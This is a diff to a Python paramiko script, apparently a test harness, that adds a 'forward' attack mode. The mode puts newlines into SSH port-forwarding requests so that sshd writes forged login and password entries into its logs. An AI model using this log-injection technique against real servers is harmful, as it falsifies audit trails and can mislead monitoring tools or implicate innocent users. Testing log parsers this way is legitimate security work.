@@ -40,7 +40,8 @@ def send(transport, kind, *parts):
 
 
 def main():
-    address, port, attack, user = sys.argv[1:]
+    address, port, attack, user = sys.argv[1:5]
+    key = sys.argv[5] if len(sys.argv) > 5 else None  # attacks with a login
     with socket.create_server((address, int(port)), family=socket.AF_INET6 if ":" in address else socket.AF_INET) as listener:
         listener.settimeout(20)
         connection, _ = listener.accept()
@@ -52,6 +53,19 @@ def main():
 
     transport = paramiko.Transport(connection)
     transport.start_client(timeout=20)
+    if attack == "forward":
+        # sshd logs the target of a refused forwarding with the line ends in it.
+        transport.auth_publickey(user, paramiko.Ed25519Key.from_private_key_file(key))
+        for of in ("ghost", user):
+            try:
+                transport.open_channel("direct-tcpip", ("a\n" + login(of) + login(of, "password") + "b", 1), ("127.0.0.1", 1), timeout=20)
+            except paramiko.SSHException:
+                pass
+        channel = transport.open_session(timeout=20)
+        channel.invoke_subsystem("netconf")
+        print("forged", flush=True)
+        transport.join(60)
+        return
     send(transport, cMSG_SERVICE_REQUEST, "ssh-userauth")
     if attack == "user":
         # 100 bytes of a name are logged.
